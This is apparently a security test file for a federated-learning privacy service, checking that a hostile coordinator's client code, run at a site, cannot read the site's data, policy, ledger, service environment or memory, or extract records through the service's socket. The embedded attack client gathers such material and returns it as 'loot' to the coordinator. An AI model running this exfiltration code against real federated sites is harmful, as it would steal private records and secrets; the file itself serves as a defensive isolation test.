"""A hostile coordinator against a site set up by the runbook (README, "Site runbook").

The coordinator submits its own FAB (written here into a temp folder; not fedpriv's code) to a
real TLS + authenticated deployment. Its ClientApp runs at the site, inside the SuperNode, and
tries what such code can: read the site's data file, policy and ledger by the runbook's paths,
list the service's folders, read the service process's memory and environment, and ask the
service for records through its protocol (unknown kinds, status, crafted evaluate and train
requests). It sends whatever it got to its ServerApp, which writes it to a file we read.

The site runs as the runbook says: the service as its own user owning data, policy and ledger
(0600 files in 0700 folders), its socket 0660 in a group shared with the SuperNode's user, and
the SuperNode as a second unprivileged user (setpriv). CI runs as root: the users are created
here (useradd) and removed afterwards. /root is 0700 and the venv's python is a symlink into
/root/.pyenv, so the two users could not even start the interpreter: the test gives /root
o+x (traverse only, no listing) for its duration and restores the mode in a finally. The
service reads the public reference dataset from a cache of its own (a copy of root's asset),
as an operator running ``fedpriv-fetch`` as the service's user would have it.
"""

from __future__ import annotations

import grp
import hashlib
import json
import os
import pwd
import secrets
import shutil
import stat
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from client import site_wire as wire
from client.site_shim import Endpoint, call
from common.data.assets import cache_dir, fetch
from common.privacy.ledger import PrivacyLedger
from simulations.local_deployment import LocalFederation
from tests.client.deployed_site import RUN_CONFIG, train_content, write_site

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("useradd") is None or shutil.which("setpriv") is None,
    reason="needs root, useradd and setpriv (to run the site as separate users)",
)

ATTACK_PYPROJECT = """
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "innocent-app"
version = "1.0.0"
dependencies = ["flwr"]

[tool.hatch.build.targets.wheel]
packages = ["."]

[tool.flwr.app]
publisher = "coordinator"

[tool.flwr.app.components]
serverapp = "attack_server:app"
clientapp = "attack_client:app"

[tool.flwr.app.config]
targets = ""
out-file = ""
"""

# The coordinator's ClientApp: runs as the SuperNode's user, at the site.
ATTACK_CLIENT = r'''
import json, os, socket, struct
from flwr.app import ArrayRecord, Array, ConfigRecord, Context, Message, MetricRecord, RecordDict
from flwr.clientapp import ClientApp
from flwr.common.serde import recorddict_from_proto, recorddict_to_proto
from flwr.proto.recorddict_pb2 import RecordDict as ProtoRecordDict
import numpy as np

app = ClientApp()


def attempt(action):
    try:
        got = action()
        return "GOT " + (got.hex() if isinstance(got, bytes) else json.dumps(got))
    except Exception as err:
        return f"{type(err).__name__}: {err}"


def ask(path, kind, run_config, content):
    """The service's protocol, written from its documentation (no fedpriv code)."""
    records = RecordDict({"fedpriv.request": ConfigRecord({"kind": kind, "run-id": 1}),
                          "fedpriv.run-config": ConfigRecord(run_config)})
    for name, record in content.items():
        records[name] = record
    payload = recorddict_to_proto(records).SerializeToString()
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(120)
        sock.connect(path)
        sock.sendall(b"FPS1" + struct.pack(">I", len(payload)) + payload)
        head = sock.recv(8, socket.MSG_WAITALL)
        size = struct.unpack(">I", head[4:])[0]
        body = b""
        while len(body) < size:
            body += sock.recv(size - len(body))
    proto = ProtoRecordDict()
    proto.ParseFromString(body)
    reply = recorddict_from_proto(proto)
    return {name: {k: (v.numpy().tolist() if hasattr(v, "numpy") else v)
                   for k, v in record.items()} for name, record in reply.items()}


@app.train()
def train(msg: Message, context: Context) -> Message:
    targets = json.loads(context.run_config["targets"])
    found = {"whoami": attempt(lambda: [os.getuid(), os.getgroups()])}
    for name, path in targets["files"].items():
        found[f"read {name}"] = attempt(lambda p=path: open(p, "rb").read())
    for name, path in targets["folders"].items():
        found[f"list {name}"] = attempt(lambda p=path: os.listdir(p))
    def cmdline(pid):
        return open(f"/proc/{pid}/cmdline", "rb").read().decode("latin1", "replace")

    service = [p for p in os.listdir("/proc") if p.isdigit() and "site_cli" in attempt(
        lambda p=p: cmdline(p))]
    for pid in service:
        found[f"read /proc/{pid}/environ"] = attempt(
            lambda: open(f"/proc/{pid}/environ", "rb").read())
        found[f"read /proc/{pid}/mem"] = attempt(lambda: open(f"/proc/{pid}/mem", "rb").read(64))
        found[f"list /proc/{pid}/root"] = attempt(lambda: os.listdir(f"/proc/{pid}/root/"))
    sock = context.node_config["site-service"].removeprefix("unix://")
    run = json.loads(targets["run-config"])
    zeros = ArrayRecord({"weight": Array(np.zeros((1, 13), np.float32))})
    probes = {
        "dump-records": ("dump-records", run, RecordDict()),
        "status": ("status", run, RecordDict()),
        "evaluate, final + audit, wrong model": ("evaluate", run, RecordDict(
            {"arrays": zeros, "config": ConfigRecord({"final-evaluation": True, "audit": True})})),
        "train, non-private": ("train", run | {"dp": False}, RecordDict(
            {"arrays": zeros, "config": ConfigRecord({"server-round": 1, "dp": False})})),
        "evaluate, sites-file = the policy": (
            "evaluate", run | {"sites-file": targets["files"]["policy"]},
            RecordDict({"arrays": zeros, "config": ConfigRecord({})})),
    }
    for name, (kind, run_config, content) in probes.items():
        found[f"ask {name}"] = attempt(lambda k=kind, r=run_config, c=content: ask(sock, k, r, c))
    return Message(RecordDict({"metrics": MetricRecord({"num-examples": 1}),
                               "loot": ConfigRecord({"json": json.dumps(found)})}), reply_to=msg)
'''

# The coordinator's ServerApp: asks every site once, writes what came back.
ATTACK_SERVER = r"""
import json, time
from pathlib import Path
from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.serverapp import Grid, ServerApp

app = ServerApp()


@app.main()
def main(grid: Grid, context: Context) -> None:
    nodes = []
    while not nodes:
        nodes = list(grid.get_node_ids())
        time.sleep(1)
    messages = [Message(RecordDict({"config": ConfigRecord({})}), dst_node_id=n,
                        message_type="train") for n in nodes]
    out = []
    for reply in grid.send_and_receive(messages, timeout=300):
        if reply.has_error():
            out.append({"error": reply.error.reason})
        else:
            out.append(json.loads(reply.content["loot"]["json"]))
    Path(context.run_config["out-file"]).write_text(json.dumps(out, indent=1))
"""


def _sh(*command: str) -> None:
    subprocess.run(command, check=True, capture_output=True, text=True)


@pytest.fixture()
def users() -> Iterator[dict[str, str]]:
    """A service user, a SuperNode user and the socket's group, removed afterwards."""
    tag = secrets.token_hex(3)
    names = {"service": f"fps{tag}", "node": f"fpn{tag}", "group": f"fpg{tag}"}
    created: list[tuple[str, str]] = []
    root_mode = stat.S_IMODE(os.stat("/root").st_mode)
    try:
        _sh("groupadd", "--system", names["group"])
        created.append(("groupdel", names["group"]))
        for who in ("service", "node"):
            _sh("useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin",
                "--user-group", "--groups", names["group"], names[who])  # fmt: skip
            created.append(("userdel", names[who]))
        os.chmod("/root", root_mode | stat.S_IXOTH)  # traverse to the venv's interpreter
        yield names
    finally:
        os.chmod("/root", root_mode)
        for command, name in reversed(created):
            subprocess.run([command, name], capture_output=True)


def _as(user: str, home: Path, **env: str) -> tuple[str, ...]:
    """A command prefix running as ``user`` with its groups (setpriv), HOME and env."""
    extra = [f"{k}={v}" for k, v in env.items()]
    return ("setpriv", f"--reuid={user}", f"--regid={user}", "--init-groups",
            "env", f"HOME={home}", *extra)  # fmt: skip


def _own(path: Path, user: str, mode: int, group: str | None = None) -> None:
    entry = pwd.getpwnam(user)
    gid = grp.getgrnam(group).gr_gid if group else entry.pw_gid
    os.chown(path, entry.pw_uid, gid)
    os.chmod(path, mode)


def _service_cache(cache: Path, user: str) -> str:
    """The service's own asset cache (as ``fedpriv-fetch`` run by its user leaves it): a copy of
    the heart-disease asset, so the test does not depend on root's cache being readable."""
    source = fetch("heart-disease").parent
    target = cache / source.relative_to(cache_dir())
    shutil.copytree(source, target)
    for path in (cache, *cache.rglob("*")):
        _own(path, user, 0o700 if path.is_dir() else 0o600)
    return str(cache)


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.slow
def test_a_coordinator_written_client_app_gets_no_byte_of_the_sites_records(users) -> None:
    work = Path(tempfile.mkdtemp(prefix="fpattack-", dir="/tmp"))
    os.chmod(work, 0o755)
    try:
        _attack(work, users)
    finally:
        shutil.rmtree(work, ignore_errors=True)


def _attack(work: Path, users: dict[str, str]) -> None:
    # --- the site, laid out as the runbook says -----------------------------------------
    etc, lib, run = work / "etc" / "fedpriv", work / "var" / "lib" / "fedpriv", work / "run"
    policy = write_site(lib / "data", "site-a", budget=20.0)
    data, ledger = lib / "data" / "site-a.csv", lib / "data" / "site-a.sqlite"
    etc.mkdir(parents=True)
    policy = policy.rename(etc / "policy.toml")
    (run / "fedpriv").mkdir(parents=True)
    for path, mode in ((etc, 0o700), (policy, 0o600), (lib, 0o700), (lib / "data", 0o700),
                       (data, 0o600)):  # fmt: skip
        _own(path, users["service"], mode)
    _own(run / "fedpriv", users["service"], 0o750, users["group"])
    state, node_home = lib / "state", work / "home" / users["node"]
    (node_home / "flwr").mkdir(parents=True)
    for path in (node_home, node_home / "flwr"):
        _own(path, users["node"], 0o700)
    cache = _service_cache(lib / "cache", users["service"])
    with LocalFederation(work / "federation") as fed:
        for path in (fed.workdir, fed.certs):  # the SuperNode's user reads the CA cert
            os.chmod(path, 0o755)
        os.chmod(fed.certs / "ca.crt", 0o644)
        service = fed.start_site_service(
            "site-a",
            policy,
            run_as=_as(users["service"], lib, FEDPRIV_CACHE=cache),
            socket_path=run / "fedpriv" / "site.sock",
            state_dir=state,
            socket_group=users["group"],
        )
        # an honest round first (as root, over the socket), so the ledger has a row to keep
        endpoint = Endpoint(service.address, path=service.socket)
        honest = call(
            endpoint, wire.Request("train", 1, RUN_CONFIG, train_content(RUN_CONFIG)), 120
        )
        assert honest.ok, f"honest round: {honest.error} {honest.reason}\n{service.log()[-4000:]}"
        assert dict(honest.content["decision"])["status"] == "trained"
        assert stat.S_IMODE(ledger.stat().st_mode) == 0o600
        assert ledger.stat().st_uid == pwd.getpwnam(users["service"]).pw_uid
        assert stat.S_IMODE(service.socket.stat().st_mode) == 0o660
        before = (_digest(ledger), _rows(ledger))

        key = fed.register("site-a")
        os.chmod(key.parent, 0o755)
        _own(key, users["node"], 0o600)
        fed.start_supernode(
            "site-a",
            {"site-service": service.address},
            key,
            run_as=_as(users["node"], node_home),
            home=node_home / "flwr",
        )
        fed.wait_online(1)
        app = work / "coordinator-app"
        app.mkdir()
        (app / "pyproject.toml").write_text(ATTACK_PYPROJECT)
        (app / "attack_client.py").write_text(ATTACK_CLIENT)
        (app / "attack_server.py").write_text(ATTACK_SERVER)
        out = work / "loot.json"
        targets = {
            "files": {
                "data": str(data),
                "policy": str(policy),
                "ledger": str(ledger),
                "activity log": str(state / "activity.jsonl"),
            },  # fmt: skip
            "folders": {
                "policy folder": str(etc),
                "data folder": str(lib),
                "ledger folder": str(lib / "data"),
                "state": str(state),
            },  # fmt: skip
            "run-config": json.dumps(RUN_CONFIG),
        }
        run_id = fed.submit({"targets": json.dumps(targets), "out-file": str(out)}, app=app)
        assert fed.run_status(run_id)["status"] == "finished:completed", fed.superlink_log
        loot_text = out.read_text()
        (loot,) = json.loads(loot_text)
        assert "error" not in loot, loot
        print(json.dumps(loot, indent=1))  # the attack's output, for the record
        site_status = service.log()

    # --- what the coordinator got ---------------------------------------------------------
    node = pwd.getpwnam(users["node"])
    assert json.loads(loot["whoami"].removeprefix("GOT "))[0] == node.pw_uid != 0
    for name in ("data", "policy", "ledger", "activity log"):
        assert loot[f"read {name}"].startswith("PermissionError"), (name, loot[f"read {name}"])
    for name in ("policy folder", "data folder", "ledger folder", "state"):
        assert loot[f"list {name}"].startswith("PermissionError"), (name, loot[f"list {name}"])
    proc = [k for k in loot if k.startswith(("read /proc", "list /proc"))]
    assert proc and all(loot[k].startswith("PermissionError") for k in proc), proc
    # the service answers only what its policy allows
    asked = {k.removeprefix("ask "): json.loads(v.removeprefix("GOT ")) for k, v in loot.items()
             if k.startswith("ask ") and v.startswith("GOT ")}  # fmt: skip
    assert len(asked) == 5, loot
    replies = {k: v["fedpriv.reply"] for k, v in asked.items()}
    assert replies["dump-records"]["error"] == wire.UNKNOWN_KIND
    assert replies["status"]["error"] == wire.UNAUTHORIZED
    assert not replies["evaluate, final + audit, wrong model"]["ok"]
    assert not replies["evaluate, sites-file = the policy"]["ok"]
    refusal = asked["train, non-private"]
    assert "arrays" not in refusal and refusal["decision"]["status"] != "trained"
    # no byte of any record, of the policy or of the ledger reached the coordinator
    records = data.read_text().splitlines()[1:]
    assert records and not [row for row in records if row in loot_text]
    raw = data.read_bytes()
    assert raw[:48].hex() not in loot_text and policy.read_text()[:40] not in loot_text
    assert b"SQLite format 3".hex() not in loot_text
    # and the ledger is unchanged, bytes and rows
    assert (_digest(ledger), _rows(ledger)) == before
    assert "unknown-kind" in site_status or "dump-records" in site_status


def _rows(path: Path) -> list[tuple]:
    with PrivacyLedger(path, read_only=True) as ledger:
        return [(r.run_id, r.round, r.status, r.noise_multiplier, r.steps) for r in ledger.rows()]
